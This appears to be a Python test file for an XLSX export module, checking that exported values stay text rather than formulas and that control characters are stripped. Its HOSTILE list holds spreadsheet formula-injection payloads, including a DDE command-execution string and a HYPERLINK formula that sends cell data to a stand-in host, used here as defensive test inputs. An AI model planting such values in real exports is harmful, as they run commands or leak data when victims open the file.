"""The one XLSX writer: a stored value is written as data, never as a formula, and a control
character no longer fails the export."""

from __future__ import annotations

import datetime as dt
import io

from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from loom_platform import xlsx

HOSTILE = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "plain text",
]


def _cells(content: bytes) -> list[list[object]]:
    sheet = load_workbook(io.BytesIO(content)).active
    return [list(row) for row in sheet.iter_rows()]  # type: ignore[union-attr]


def test_texts_a_spreadsheet_would_run_are_written_as_text_and_kept_as_they_were() -> None:
    # when the hostile values are exported, as titles and as cells
    content = xlsx.workbook("导出", ["=title", "名称"], [[value, "x"] for value in HOSTILE])
    # then no cell is a formula, each keeps its text, and those a spreadsheet would run carry the quote prefix
    rows = _cells(content)
    assert all(cell.data_type == "s" for row in rows for cell in row)  # type: ignore[attr-defined]
    assert [row[0].value for row in rows] == ["=title", *HOSTILE]  # type: ignore[attr-defined]
    prefixed = [row[0].value for row in rows if row[0].quotePrefix]  # type: ignore[attr-defined]
    assert prefixed == ["=title", *HOSTILE[:-1]]


def test_numbers_dates_and_empties_stay_what_they_are() -> None:
    when = dt.datetime(2026, 11, 28, 9, 30)
    content = xlsx.workbook("t", ["n"], [[-5, -2.5, 0, when, None, True, "-5"]])
    row = _cells(content)[1]
    assert [c.value for c in row] == [-5, -2.5, 0, when, None, True, "-5"]  # type: ignore[attr-defined]
    assert [c.data_type for c in row[:3]] == ["n", "n", "n"]  # type: ignore[attr-defined]


def test_control_characters_are_removed_and_the_rest_of_the_row_kept() -> None:
    content = xlsx.workbook("bad\x01[title]:*?/", ["t"], [["a\x00b\x1fc\x0b", "line\nbreak\ttab"]])
    sheet = load_workbook(io.BytesIO(content)).active
    assert sheet.title == "bad_title_____"  # type: ignore[union-attr]
    assert [c.value for c in _cells(content)[1]] == ["abc", "line\nbreak\ttab"]  # type: ignore[attr-defined]


@given(st.lists(st.text(max_size=40), min_size=1, max_size=5))
def test_any_text_round_trips_as_text_without_its_control_characters(values: list[str]) -> None:
    row = _cells(xlsx.workbook("p", ["v"] * len(values), [values]))[1]
    assert all(c.data_type != "f" for c in row)  # type: ignore[attr-defined]
    expected = [xlsx.text(v) or None for v in values]
    assert [c.value for c in row] == expected  # type: ignore[attr-defined]
